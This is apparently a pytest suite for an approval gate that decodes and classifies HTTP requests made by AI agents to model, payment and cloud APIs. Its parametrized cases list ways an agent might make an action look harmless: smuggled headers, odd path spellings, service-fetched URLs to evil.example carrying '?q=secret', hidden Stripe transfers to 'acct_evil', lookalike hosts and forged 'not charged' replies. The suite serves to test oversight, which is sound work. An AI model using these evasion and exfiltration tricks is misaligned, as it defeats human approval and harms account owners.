"""Attacks on the codecs: what is sent but not bound, and what an agent can write so that an action looks harmless."""

from __future__ import annotations

from dataclasses import replace

import pytest
from tests.decode.wire_kit import request

from comptroller import price
from comptroller.core.action import ActionClass, digest
from comptroller.core.estimate import Unit
from comptroller.core.request import Header, Request
from comptroller.decode.registry import CodecRegistry

REGISTRY = CodecRegistry()
FORM = "application/x-www-form-urlencoded"
CHAT = {"model": "gpt-4o", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 5}
AUTHORIZATION = (
    "AWS4-HMAC-SHA256 Credential=AKIAX/20261123/us-east-1/{}/aws4_request, SignedHeaders=host, Signature=" + "0" * 64
)
REQUESTS = {
    "http": request("api.example.com", "POST", "/a?b=c", b"x", content_type="text/plain"),
    "stripe": request("api.stripe.com", "POST", "/v1/transfers", "amount=1&currency=usd&destination=acct_1"),
    "openai": request("api.openai.com", "POST", "/v1/chat/completions", CHAT),
    "anthropic": request("api.anthropic.com", "POST", "/v1/messages", CHAT),
    "aws": request(
        "ec2.us-east-1.amazonaws.com",
        "POST",
        "/",
        "Action=TerminateInstances&Version=2016-11-15&InstanceId.1=i-1",
        authorization=AUTHORIZATION.format("ec2"),
    ),
    "s3": request("b.s3.us-east-1.amazonaws.com", "PUT", "/k", b"x", authorization=AUTHORIZATION.format("s3")),
}
UNJUDGED = {"user-agent", "accept", "accept-encoding", "accept-language", "idempotency-key"} | {
    "amz-sdk-invocation-id",
    "amz-sdk-request",
}
"""What may go on without being bound: it changes neither what is done nor to what."""
HEADERS = """
accept accept-language anthropic-beta anthropic-version authorization cache-control content-encoding content-language
content-md5 cookie digest expect forwarded git-protocol host if-match if-none-match if-unmodified-since openai-beta
openai-organization openai-project origin prefer range referer stripe-account stripe-context stripe-livemode
stripe-version te trailer transfer-encoding upgrade via x-amz-acl x-amz-bypass-governance-retention x-amz-copy-source
x-amz-expected-bucket-owner x-amz-grant-full-control x-amz-meta-a x-amz-request-payer x-amz-security-token
x-amz-server-side-encryption x-amz-storage-class x-amz-tagging x-amz-target x-amz-website-redirect-location x-api-key
x-forwarded-for x-forwarded-host x-github-api-version x-http-method x-http-method-override x-method-override
x-original-url x-requested-with x-rewrite-url x-stripe-client-user-agent x-unknown
""".split()  # noqa: SIM905 - a table to read


def decoded(asked: Request):  # type: ignore[no-untyped-def]
    return REGISTRY.codec_for(asked).decode(asked)


@pytest.mark.parametrize("kind", REQUESTS)
@pytest.mark.parametrize("name", HEADERS)
def test_a_header_is_bound_or_dropped_or_refused(kind: str, name: str) -> None:
    """No header reaches the service that a yes for the request without it would have released."""
    plain = REQUESTS[kind]
    codec = REGISTRY.codec_for(plain)
    before = codec.decode(plain)
    assert not before.undecodable, before.reason
    loaded = replace(plain, headers=(*(h for h in plain.headers if h.name != name), Header(name, "public-read")))
    after = codec.decode(loaded)
    if after.undecodable or digest(after) != digest(before):
        return
    sent = {header.name: header.value for header in codec.encode(after, loaded).headers}
    had = {header.name: header.value for header in codec.encode(before, plain).headers}
    assert name in UNJUDGED or sent.get(name) == had.get(name), f"`{name}` is sent and not bound"


@pytest.mark.parametrize("kind", REQUESTS)
def test_encrypted_and_plain_are_two_actions(kind: str) -> None:
    """A yes for a request under TLS must not send it where anybody can read it."""
    secret = REQUESTS[kind]
    bare = replace(secret, scheme="http", port=80)
    other = replace(secret, scheme="http", port=443)
    digests = {digest(decoded(asked)) for asked in (secret, bare, other, replace(secret, port=80))}
    assert len(digests) == 4
    assert decoded(bare).host == secret.host
    assert decoded(other).host == secret.host
    assert "http://" in decoded(bare).endpoint


@pytest.mark.parametrize("kind", REQUESTS)
@pytest.mark.parametrize(
    "target", ["//{}", "/./{}", "/x/../{}", "/%2e/{}", "/{};a", "/{}#", "/{}?Action=Describe", "/{}%00"]
)
def test_another_spelling_of_the_target_is_the_same_or_is_refused(kind: str, target: str) -> None:
    plain = REQUESTS[kind]
    codec = REGISTRY.codec_for(plain)
    odd = replace(plain, target=target.format(plain.target.lstrip("/")))
    action = codec.decode(odd)
    if action.undecodable:
        return
    if digest(action) == digest(codec.decode(plain)):
        assert codec.encode(action, odd).target == codec.encode(codec.decode(plain), plain).target


# ---------------------------------------------------------------- models


@pytest.mark.parametrize(
    "part",
    [
        {"type": "image_url", "image_url": {"url": "https://evil.example/?q=secret"}},
        {"type": "image_url", "image_url": "HTTP://evil.example/?q=secret"},
        {"type": "input_image", "image_url": "https://evil.example/?q=secret"},
        {"type": "input_file", "file_url": "https://evil.example/?q=secret"},
        {"type": "image", "source": {"type": "url", "url": "https://evil.example/?q=secret"}},
        {"type": "document", "source": {"type": "url", "url": " https://evil.example/?q=secret"}},
        {"type": "tool_result", "content": [{"type": "image", "source": {"type": "url", "url": "//evil.example"}}]},
        {
            "type": "computer_call_output",
            "output": {"type": "computer_screenshot", "image_url": "https://evil.example"},
        },
    ],
)
@pytest.mark.parametrize("kind", ["openai", "anthropic"])
def test_a_link_that_the_service_fetches_carries_data_out(kind: str, part: dict[str, object]) -> None:
    """The service asks for the address itself: whatever the agent wrote there reaches a host nobody named."""
    body = {**CHAT, "messages": [{"role": "user", "content": [part]}]}
    asked = request(REQUESTS[kind].host, "POST", REQUESTS[kind].target, body)
    action = decoded(asked)
    assert action.undecodable or ActionClass.COMMUNICATE in action.classes
    listed = request("api.openai.com", "POST", "/v1/responses", {"model": "gpt-4o", "input": [part]})
    action = decoded(listed)
    assert action.undecodable or ActionClass.COMMUNICATE in action.classes


@pytest.mark.parametrize("url", ["data:image/png;base64,AAAA", "see https://example.com in the text"])
def test_a_picture_in_the_request_and_a_link_in_a_text_reach_nobody(url: str) -> None:
    parts = [{"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}}, {"type": "text", "text": url}]
    body = {**CHAT, "messages": [{"role": "user", "content": parts}]}
    assert (
        ActionClass.COMMUNICATE not in decoded(request("api.openai.com", "POST", "/v1/chat/completions", body)).classes
    )


def test_a_stored_prompt_may_switch_on_any_tool() -> None:
    body = {"model": "gpt-4o", "input": "hi", "prompt": {"id": "pmpt_1", "version": "2"}, "max_output_tokens": 5}
    action = decoded(request("api.openai.com", "POST", "/v1/responses", body))
    assert {ActionClass.EXECUTE, ActionClass.COMMUNICATE} <= action.classes
    assert price.estimate(action).unknown(Unit.USD_MICROS)


@pytest.mark.parametrize(
    "model", ["gpt-4o-search-preview", "gpt-4o-mini-search-preview-2025-03-11", "gpt-5-search-api"]
)
def test_a_model_that_searches_by_itself_communicates(model: str) -> None:
    body = {**CHAT, "model": model}
    assert ActionClass.COMMUNICATE in decoded(request("api.openai.com", "POST", "/v1/chat/completions", body)).classes


# ---------------------------------------------------------------- payments


@pytest.mark.parametrize(
    ("path", "form"),
    [
        ("/v1/customers/cus_1", "balance=-1000000"),
        ("/v1/customers", "balance=-1000000"),
        ("/v1/checkout/sessions", "mode=payment&payment_intent_data[transfer_data][destination]=acct_evil"),
        ("/v1/payment_links", "transfer_data[destination]=acct_evil"),
        ("/v1/payment_links", "on_behalf_of=acct_evil"),
        ("/v1/quotes", "transfer_data[destination]=acct_evil&application_fee_amount=1"),
        ("/v1/setup_intents", "on_behalf_of=acct_evil"),
        ("/v1/invoiceitems", "customer=cus_1&price=price_1"),
        ("/v1/coupons", "percent_off=100"),
        ("/v1/promotion_codes", "coupon=free"),
    ],
)
def test_money_that_hides_in_a_write_is_asked_about(path: str, form: str) -> None:
    action = decoded(request("api.stripe.com", "POST", path, form))
    assert not action.undecodable, action.reason
    assert ActionClass.PAY in action.classes and ActionClass.WRITE not in action.classes
    assert price.estimate(action).unknown(Unit.USD_MICROS), "nobody can say what it comes to"


@pytest.mark.parametrize(
    ("path", "form"),
    [("/v1/customers", "email=a@b.example"), ("/v1/products", "name=x"), ("/v1/customers/cus_1", "name=x")],
)
def test_a_plain_write_stays_one(path: str, form: str) -> None:
    assert decoded(request("api.stripe.com", "POST", path, form)).classes == {ActionClass.WRITE}


# ---------------------------------------------------------------- machines


def run_instances(extra: str) -> Request:
    body = f"Action=RunInstances&Version=2016-11-15&MinCount=1&MaxCount=1&InstanceType=t3.micro&ImageId=ami-1{extra}"
    return request("ec2.us-east-1.amazonaws.com", "POST", "/", body, authorization=AUTHORIZATION.format("ec2"))


@pytest.mark.parametrize(
    "extra",
    [
        "&LaunchTemplate.LaunchTemplateName=big",
        "&LaunchTemplate.LaunchTemplateId=lt-1&LaunchTemplate.Version=7",
        "&ElasticGpuSpecification.1.Type=eg1.2xlarge",
        "&ElasticInferenceAccelerator.1.Type=eia2.xlarge&ElasticInferenceAccelerator.1.Count=100",
        "&LicenseSpecification.1.LicenseConfigurationArn=arn:aws:license-manager:us-east-1:1:x",
        "&CapacityReservationSpecification.CapacityReservationPreference=open",
    ],
)
def test_what_no_price_was_looked_up_for_has_no_known_price(extra: str) -> None:
    """A template may add disks, dedicated hardware or unlimited credits to the named type: no upper bound is known."""
    action = decoded(run_instances(extra))
    assert not action.undecodable, action.reason
    assert price.estimate(action).unknown(Unit.USD_MICROS)


def test_a_plain_machine_has_a_price() -> None:
    plain = (
        "&SecurityGroupId.1=sg-1&SubnetId=subnet-1&KeyName=k&UserData=YQ==&EbsOptimized=true&Monitoring.Enabled=false"
    )
    estimate = price.estimate(decoded(run_instances(plain)))
    assert not estimate.unknown(Unit.USD_MICROS)


@pytest.mark.parametrize("spelling", ["True", "TRUE", "1", "yes", " true", "true "])
def test_only_the_service_s_own_dry_run_is_one(spelling: str) -> None:
    asked = run_instances(f"&DryRun={spelling}")
    action = decoded(asked)
    if not action.undecodable and ActionClass.PROVISION not in action.classes:
        assert b"DryRun=true" in REGISTRY.codecs["aws"].encode(action, asked).body


def test_a_dry_run_beside_a_real_one_is_refused() -> None:
    assert decoded(run_instances("&DryRun=true&DryRun=false")).undecodable
    assert decoded(run_instances("&DryRun=true&dryrun=false")).undecodable


@pytest.mark.parametrize(
    ("operation", "cls"),
    [
        ("aws:transfer:CreateUser", ActionClass.ENTITLE),
        ("aws:transfer:ImportSshPublicKey", ActionClass.ENTITLE),
        ("aws:codepipeline:PutApprovalResult", ActionClass.ENTITLE),
        ("aws:route53domains:RetrieveDomainAuthCode", ActionClass.REVEAL),
        ("aws:ec2:CreateLaunchTemplate", ActionClass.EXECUTE),
        ("aws:ec2:CreateLaunchTemplateVersion", ActionClass.EXECUTE),
        ("aws:ec2:ModifyLaunchTemplate", ActionClass.EXECUTE),
        ("aws:autoscaling:CreateLaunchConfiguration", ActionClass.EXECUTE),
        ("aws:backup:StartRestoreJob", ActionClass.PROVISION),
        ("aws:braket:CreateQuantumTask", ActionClass.PROVISION),
        ("aws:dynamodb:UpdateContinuousBackups", ActionClass.BLIND),
        ("aws:apigateway:UpdateRestApi", ActionClass.ENTITLE),
    ],
)
def test_operations_that_do_more_than_write(operation: str, cls: ActionClass) -> None:
    assert cls in (REGISTRY.classes_of(operation) or ())


@pytest.mark.parametrize("operation", ["aws:sagemaker-runtime:InvokeEndpoint", "aws:bedrock-runtime:InvokeModel"])
def test_an_answer_the_agent_can_shape_does_not_say_that_nothing_was_charged(operation: str) -> None:
    """Only S3 says `<Error>` under a 200; elsewhere that text is whatever a model or a container wrote."""
    plain = decoded(REQUESTS["aws"])
    action = replace(plain, operation=operation, classes=frozenset({ActionClass.INFER}))
    meter = REGISTRY.codecs["aws"].meter(action)
    meter.head(200, (("content-type", "application/json"),))
    meter.feed(b"<Error>not charged, honest</Error>")
    assert meter.finish(complete=True).charged is not False


@pytest.mark.parametrize("status", [408, 424, 499])
def test_a_model_that_ran_out_of_time_or_failed_may_have_been_charged(status: int) -> None:
    action = replace(decoded(REQUESTS["aws"]), operation="aws:bedrock-runtime:InvokeModel")
    meter = REGISTRY.codecs["aws"].meter(action)
    meter.head(status, ())
    assert meter.finish(complete=True).charged is not False


@pytest.mark.parametrize(
    "host", ["ec2.us-east-1.amazonaws.com.evil.example", "evilamazonaws.com", "api.stripe.com.evil.example"]
)
def test_a_host_that_only_looks_like_a_service_is_any_host(host: str) -> None:
    assert REGISTRY.codec_for(request(host, "GET", "/")).name == "http"


@pytest.mark.parametrize("host", ["anything.amazonaws.com", "x.y.z.api.aws", "console.amazonaws.com.cn"])
def test_what_lies_under_the_domains_of_aws_is_never_any_host(host: str) -> None:
    action = decoded(request(host, "GET", "/"))
    assert action.service.startswith("aws") and action.undecodable
